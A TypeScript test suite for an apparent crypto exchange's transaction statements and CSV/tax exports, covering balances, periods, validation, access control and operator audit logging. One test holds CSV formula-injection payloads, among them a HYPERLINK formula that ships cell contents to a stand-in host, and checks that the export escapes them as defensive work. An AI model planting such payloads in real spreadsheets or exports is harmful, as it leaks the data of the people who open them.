import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { after, before, test } from 'node:test'
import { Decimal } from 'decimal.js'
import pg from 'pg'
import { makeKey } from '../keys/support.ts'
import { asIntruder, tradeForADay } from '../ledger/support.ts'
import { call, type Market, type Person, startMarket } from '../support/market.ts'
import { exported, type Row, readCsv } from './support.ts'

// What the rows of a statement say, as the API lists them and as files: after a day with every way a trade can end.

let market: Market
let people: Person[]
let by: Awaited<ReturnType<typeof tradeForADay>>['by']
before(async () => {
  market = await startMarket()
  ;({ people, by } = await tradeForADay(market))
})
after(() => market?.stop())

const movementsOf = async (person: Person, asked = '') =>
  (await person.get(`/v1/transactions?limit=100${asked}`)).body.items

test('every line of a trade says its price and worth, where the coins went, and who was on the other side', async () => {
  const kinds = new Set<string>()
  for (const person of people) {
    for (const line of await movementsOf(person, '&category=trade')) {
      const trade = (await person.get(`/v1/trades/${line.tradeId}`)).body
      kinds.add(line.type)
      assert.equal(line.exchangeRate, trade.price)
      assert.equal(line.fiatCurrency, 'EUR')
      const worth = new Decimal(line.amount).times(trade.price).toDecimalPlaces(2, Decimal.ROUND_HALF_UP)
      assert.equal(line.fiatValue, worth.toFixed(8))
      assert.equal(line.networkFee, '0.00000000')
      const other = trade.seller.id === person.id ? trade.buyer : trade.seller
      assert.deepEqual(line.counterparty, { id: other.id, displayName: other.displayName })
      assert.ok(line.destinationDescription.endsWith(trade.paymentReference), line.destinationDescription)
      const there = { hold: 'Escrow', refund: 'Wallet', buy: 'Wallet', sell: 'Buyer' }[line.type as 'hold']
      assert.equal(line.destinationName, there)
      assert.doesNotMatch(
        JSON.stringify([line.destinationName, line.destinationDescription]),
        /ada|ben|cleo|dan/,
      )
    }
  }
  assert.deepEqual([...kinds].sort(), ['buy', 'hold', 'refund', 'sell'])
})

/** What the migration does after its new column and law, and what the code does when it is applied. */
const FILLED_IN_BY = {
  'the migration': '../../db/migrations/0039-movements/up.sql',
  'the code': '../../src/trades/trades.movements.sql',
}
for (const [who, file] of Object.entries(FILLED_IN_BY)) {
  test(`rows of the program before, filled in by ${who}, are those that are written now`, async () => {
    const all = `select to_jsonb(x) - 'updated_at' as row from crypto_transactions x order by id`
    const text = await readFile(new URL(file, import.meta.url), 'utf8')
    const before = await asIntruder(market, async (client) => {
      const { rows } = await client.query(all)
      await client.query(`update crypto_transactions set network_fee = null, fiat_value = null, fiat_currency = null,
        destination_name = null, destination_description = null where category = 'trade'`)
      return rows
    })
    const owner = new pg.Client({ connectionString: market.database.ownerUrl, options: '-c timezone=UTC' })
    await owner.connect()
    try {
      await owner.query('begin')
      await owner.query(text.slice(Math.max(0, text.indexOf('create policy'))))
      await owner.query('commit')
    } finally {
      await owner.end()
    }
    assert.deepEqual((await asIntruder(market, (client) => client.query(all))).rows, before)
  })
}

test('an adjustment is told in US dollars of that moment, and in nothing where nobody can tell', async () => {
  const person = await market.person('adjusted')
  await market.credit(person, 'BTC', '0.5')
  await market.credit(person, 'BTC', '-0.1')
  await market.credit(person, 'DOGE', '7')
  const said = (await movementsOf(person)).map((line: Record<string, unknown>) => [
    line.amount,
    line.category,
    line.exchangeRate,
    line.fiatValue,
    line.fiatCurrency,
    line.destinationName,
    line.destinationDescription,
    line.counterparty,
  ])
  assert.deepEqual(said, [
    ['7.00000000', 'adjustment', null, null, null, 'Wallet', 'Credited by the operator', null],
    [
      '-0.10000000',
      'adjustment',
      '71040.00000000',
      '7104.00000000',
      'USD',
      'Operator',
      'Debited by the operator',
      null,
    ],
    [
      '0.50000000',
      'adjustment',
      '71040.00000000',
      '35520.00000000',
      'USD',
      'Wallet',
      'Credited by the operator',
      null,
    ],
  ])
  assert.equal((await movementsOf(person, '&currency=DOGE')).length, 1)
  assert.equal((await movementsOf(person, '&category=trade')).length, 0)
  const at = (await movementsOf(person, '&currency=DOGE'))[0].createdAt
  const before = new Date(Date.parse(at) - 1).toISOString()
  assert.equal((await movementsOf(person, `&to=${before}`)).length, 2)
})

test('a statement adds up line by line, from nothing to what the wallets show', async () => {
  for (const person of people) {
    const rows = await exported(person)
    const balances = new Map<string, Decimal>()
    const held = new Map<string, string>()
    for (const { type, currency = '', available_change, available = '', held: now = '' } of rows) {
      if (type === 'opening_balance') assert.equal(available, '0.00000000')
      const was = balances.get(currency) ?? new Decimal(0)
      const is = was.plus(available_change || 0)
      assert.equal(available, is.toFixed(8), `${type} of ${currency}`)
      assert.ok(is.gte(0) && new Decimal(now).gte(0))
      balances.set(currency, is)
      held.set(currency, now)
    }
    const { items } = (await person.get('/v1/wallets')).body
    assert.deepEqual(
      items.map((one: Row) => [one.currency, one.available, one.held]),
      [...balances].map(([currency, value]) => [currency, value.toFixed(8), held.get(currency)]).sort(),
    )
    const ids = (await movementsOf(person)).map((line: Row) => line.id).reverse()
    assert.deepEqual(
      rows.flatMap(({ id }) => (id === '' ? [] : [id])),
      ids,
    )
  }
})

test('a period takes its first moment in and leaves its last one out, and two that meet fit together', async () => {
  const [ada] = people as [Person]
  const whole = await exported(ada, '?currency=BTC')
  const middle = whole[Math.trunc(whole.length / 2)]!.time!
  const first = await exported(ada, `?currency=BTC&to=${middle}`)
  const second = await exported(ada, `?currency=BTC&from=${middle}`)
  const lines = (rows: Row[]) => rows.filter(({ id }) => id !== '')
  assert.ok(lines(first).length > 0 && lines(second).length > 0)
  assert.ok(lines(first).every(({ time }) => time! < middle))
  assert.ok(lines(second).every(({ time }) => time! >= middle))
  assert.deepEqual([...lines(first), ...lines(second)], lines(whole))
  assert.deepEqual(
    [first.at(-1)!.available, first.at(-1)!.held, first.at(-1)!.time],
    [second[0]!.available, second[0]!.held, second[0]!.time],
  )
  const later = await exported(ada, '?from=2999-01-01T00:00:00Z&currency=BTC')
  assert.deepEqual(
    later.map((row) => [row.type, row.available]),
    [
      ['opening_balance', whole.at(-1)!.available],
      ['closing_balance', whole.at(-1)!.available],
    ],
  )
})

test('the tax report has what came and went with its worth, and of a trade what the other side has', async () => {
  const [ada, ben] = people as [Person, Person]
  const [sold] = (await exported(ada, '?format=tax')).filter((row) => row.trade_id === by.released!.trade)
  const [bought] = (await exported(ben, '?format=tax')).filter((row) => row.trade_id === by.released!.trade)
  const common = {
    asset: 'BTC',
    quantity: '0.33333333',
    rate: '60000.00000000',
    fiat_currency: 'EUR',
    gross_value: '20000.00',
  }
  const { time, id, ...sale } = sold!
  assert.match(time!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
  assert.equal(id!.length, 36)
  assert.deepEqual(sale, {
    ...common,
    type: 'disposal',
    fee_quantity: '0.00033333',
    net_quantity: '0.33366666',
    fee_value: '20.00',
    net_value: '19980.00',
    // 20,000 EUR at the 1.16 of the tests' market.
    usd_value: '23200.00',
    counterparty_id: ben.id,
    trade_id: by.released!.trade,
  })
  assert.deepEqual(
    [bought!.type, bought!.quantity, bought!.fee_quantity, bought!.net_quantity, bought!.counterparty_id],
    ['acquisition', '0.33333333', '0.00066667', '0.33266666', ada.id],
  )
  assert.equal(bought!.gross_value, '20000.00')
  const [debit] = (await exported(ben, '?format=tax&category=adjustment')).filter(
    (row) => row.type === 'transfer_out',
  )
  assert.deepEqual(
    [debit!.quantity, debit!.gross_value, debit!.fiat_currency],
    ['0.10000000', '7104.00', 'USD'],
  )
})

test('texts cannot become formulas, numbers stay numbers, and a strict reader gets every character back', async () => {
  const texts: [stored: string, read: string][] = [
    ['=HYPERLINK("http://x.example/"&A1,"click")', `'=HYPERLINK("http://x.example/"&A1,"click")`],
    ['+1', `'+1`],
    ['-1.5', `'-1.5`],
    ['@SUM(1)', `'@SUM(1)`],
    ['\tx', `'\tx`],
    ['\rx', `'\rx`],
    ['\u202E=1', `'\u202E=1`],
    ['  =1', `'  =1`],
    ['＝1', `'＝1`],
    ['a "quoted", line\r\nand another', 'a "quoted", line\r\nand another'],
    ['مرحبا \u202E txt', 'مرحبا \u202E txt'],
    [';,|', ';,|'],
    // Where lists are separated by semicolons, a spreadsheet takes what comes after one for a cell.
    ['a;=1+1;b; @x', "a;'=1+1;b;' @x"],
    ['a\t=1', "a\t'=1"],
  ]
  const person = await market.person('hostile')
  for (let i = 0; i < texts.length; i++) await market.credit(person, 'BTC', i === 0 ? '100' : '-1.5')
  await asIntruder(market, (client) =>
    client.query(
      `update crypto_transactions x set destination_description = ($2::text[])[n]
       from (select id, row_number() over (order by created_at, id) as n from crypto_transactions where user_id = $1) r
       where r.id = x.id`,
      [person.id, texts.map(([stored]) => stored)],
    ),
  )
  const rows = (await exported(person)).filter(({ id }) => id !== '')
  assert.deepEqual(
    rows.map((row) => row.destination_description),
    texts.map(([, read]) => read),
  )
  assert.ok(
    rows.slice(1).every((row) => row.amount === '-1.50000000' && row.available_change === '-1.50000000'),
  )
})

test('the answer is a file with a name, UTF-8, CRLF and a header; who has nothing gets the header alone', async () => {
  const nobody = await market.person('newcomer')
  const asked =
    '/v1/transactions.csv?format=tax&from=2026-01-01T00:00:00%2B02:00&to=2026-02-01T00:00:00Z&currency=BTC'
  const { body, headers } = await nobody.get(asked)
  assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
  assert.equal(
    headers.get('content-disposition'),
    'attachment; filename="fairlock-tax-btc-2025-12-31-2026-02-01.csv"',
  )
  assert.equal(headers.get('cache-control'), 'no-store')
  assert.match(body, /^time,type,asset,[a-z_,]+\r\n$/)
  assert.match((await nobody.get('/v1/transactions.csv')).body, /^time,type,category,currency,[a-z_,]+\r\n$/)
  const chosen = (await people[0]!.get('/v1/transactions.csv?columns=currency,time,available')).body
  assert.match(chosen, /^currency,time,available\r\nBTC,,0\.00000000\r\n/)
})

test('what makes no sense is refused with its field', async () => {
  const [ada] = people as [Person]
  for (const [asked, field] of [
    ['columns=time,nonsense', 'columns'],
    ['columns=time,time', 'columns'],
    ['columns=time;id', 'querystring.columns'],
    ['from=2026-01-02T00:00:00Z&to=2026-01-02T00:00:00Z', 'to'],
    ['category=trade', 'category'],
    ['format=xml', 'querystring.format'],
    ['from=yesterday', 'querystring.from'],
    // A leap second, which the format knows and the calendar of the program does not.
    ['from=2026-06-30T23:59:60Z', 'from'],
    ['to=2026-06-30T23:59:60Z', 'to'],
    ['userId=x', 'querystring.userId'],
  ]) {
    const { status, body } = await ada.get(`/v1/transactions.csv?${asked}`)
    assert.deepEqual([status, body.code, body.errors?.[0].field], [400, 'invalid_request', field], asked)
  }
  // None of them has left an export behind that nobody reads.
  assert.equal((await ada.get('/v1/transactions.csv')).status, 200)
})

test('everybody gets their own rows alone: strangers, staff, keys; nobody without a token', async () => {
  const [ada] = people as [Person]
  const [stranger, support] = [await market.person('stranger'), await market.person('support')]
  await asIntruder(market, (client) =>
    client.query(`insert into fairlock.staff_roles (user_id, role) values ($1, 'support')`, [support.id]),
  )
  for (const one of [stranger, support]) assert.deepEqual(await exported(one), [])
  const key = await makeKey(ada, market.url, { scopes: ['read'] })
  const byKey = await key.ask('GET', '/v1/transactions.csv?columns=id')
  assert.equal(byKey.body, (await ada.get('/v1/transactions.csv?columns=id')).body)
  const none = await call(market.url, 'GET', '/v1/transactions.csv')
  assert.deepEqual([none.status, none.body.code], [401, 'not_signed_in'])
  const wrong = { authorization: `Bearer ${ada.token.slice(0, -4)}AAAA` }
  assert.equal((await call(market.url, 'GET', '/v1/transactions.csv', undefined, wrong)).status, 401)
})

test('an operator gets the same file, and the log has the look', async () => {
  const [ada] = people as [Person]
  const env = { ...process.env, DATABASE_URL: market.database.ownerUrl }
  const args = ['statement', '--user', ada.email, '--to', '2999-01-01', '--reason', 'asked by a court']
  const { out, err } = await new Promise<{ out: string; err: string }>((resolve) => {
    execFile(process.execPath, ['src/main.ts', 'export', ...args], { env }, (_, out, err) =>
      resolve({ out, err }),
    )
  })
  const own = await exported(ada)
  assert.deepEqual(readCsv(out).slice(0, -2), own.slice(0, -2), err)
  const { rows } = await asIntruder(market, (client) =>
    client.query(`select subject_id, reason from audit.events where action = 'money.exported_by_operator'`),
  )
  assert.deepEqual(rows, [{ subject_id: ada.id, reason: 'asked by a court' }])
})
